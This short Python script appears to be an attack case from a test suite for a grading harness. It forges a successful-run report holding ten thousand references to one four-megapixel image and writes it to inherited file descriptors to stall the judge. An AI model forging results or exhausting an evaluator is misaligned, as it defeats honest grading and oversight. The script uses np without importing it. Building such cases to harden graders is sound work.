"""Attack: one picture of four megapixels, named by ten thousand outputs in a forged report.
Wants: hours of drawing in the judge.
Honest mark: 8
"""

# %% convolve2d
import io, json, os
from PIL import Image
from inside import wire

buffer = io.BytesIO()
Image.new("L", (2000, 2000)).save(buffer, "PNG")
outputs = [{"output_type": "display_data", "data": {"image/png": 0}, "metadata": {}}] * 10000
frame = wire.pack(
    {"op": "ran", "success": True, "outputs": outputs}, [np.frombuffer(buffer.getvalue(), "u1")]
)
for descriptor in range(3, 16):
    try:
        os.set_blocking(descriptor, True)
        os.write(descriptor, frame)
    except OSError:
        pass
